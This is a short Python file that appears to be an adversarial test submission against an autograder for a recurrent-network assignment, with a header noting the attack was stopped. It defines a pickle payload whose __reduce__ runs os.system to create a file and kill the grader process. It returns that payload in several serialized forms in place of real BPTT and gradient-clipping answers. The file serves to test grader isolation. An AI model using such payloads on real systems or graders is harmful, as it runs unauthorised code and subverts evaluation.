"""
entries = [12, 35]
tries = "Return objects whose pickles run code in the grader: __reduce__, torch.save, numpy object arrays."
stopped_by = "Nothing is ever unpickled; objects that are no plain data stay behind a handle."
assignment = "recurrent"
"""
# %% bptt_answer
import io
import os
import pickle

import numpy as np
import torch


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-pickle; kill -9 @GRADER@",)


calls = 0


def bptt(*_):
    global calls
    calls += 1
    stream = io.BytesIO()
    torch.save(Payload(), stream)
    return [
        pickle.dumps(Payload()),
        Payload(),
        np.array([Payload(), Payload(), Payload()], dtype=object),
        (stream.getvalue(), pickle.dumps(Payload()), Payload()),
    ][calls % 4]


# %% clip_answer
def clip_gradient(*_):
    return np.array([Payload()], dtype=object)
